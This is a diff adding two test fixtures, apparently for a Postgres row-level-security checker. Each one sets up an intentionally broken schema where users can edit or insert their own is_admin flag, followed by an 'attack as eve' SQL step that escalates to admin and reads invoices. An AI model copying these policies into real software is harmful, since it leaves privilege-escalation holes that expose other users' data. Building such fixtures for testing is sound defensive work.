@@ -1,0 +1,31 @@
+-- story: users edit their own profile, which says who is an administrator
+-- object: public.profiles.is_admin
+-- severity: critical
+-- broken
+create table public.profiles (id uuid primary key references auth.users (id), display_name text, is_admin boolean not null default false);
+insert into public.profiles (id) values ('00000000-0000-4000-8000-0000000000e1');
+alter table public.profiles enable row level security;
+grant select, update on public.profiles to authenticated;
+create policy own_read on public.profiles for select to authenticated using (id = (select auth.uid()));
+create policy own_change on public.profiles for update to authenticated using (id = (select auth.uid()));
+create policy admins on public.invoices for select to authenticated
+  using (exists (select from public.profiles p where p.id = (select auth.uid()) and p.is_admin and invoices.amount > 0))
+-- attack as eve
+update public.profiles set is_admin = true;
+select count(*) > 0 from public.invoices where org_id = '00000000-0000-4000-8000-0000000000b0'
+
+-- story: the same by a function that the policy calls
+-- object: public.profiles.is_admin
+-- severity: critical
+-- broken
+create table public.profiles (id uuid primary key references auth.users (id), is_admin boolean not null default false);
+alter table public.profiles enable row level security;
+grant select, insert on public.profiles to authenticated;
+create policy own_read on public.profiles for select to authenticated using (id = (select auth.uid()));
+create policy own_add on public.profiles for insert to authenticated with check (id = (select auth.uid()));
+create function private.is_admin() returns boolean language sql stable security definer set search_path = pg_catalog, pg_temp
+  as $$ select exists (select from public.profiles p where p.id = auth.uid() and p.is_admin) $$;
+create policy admins on public.invoices for select to authenticated using (private.is_admin())
+-- attack as eve
+insert into public.profiles values ('00000000-0000-4000-8000-0000000000e1', true);
+select count(*) > 0 from public.invoices where org_id = '00000000-0000-4000-8000-0000000000b0'
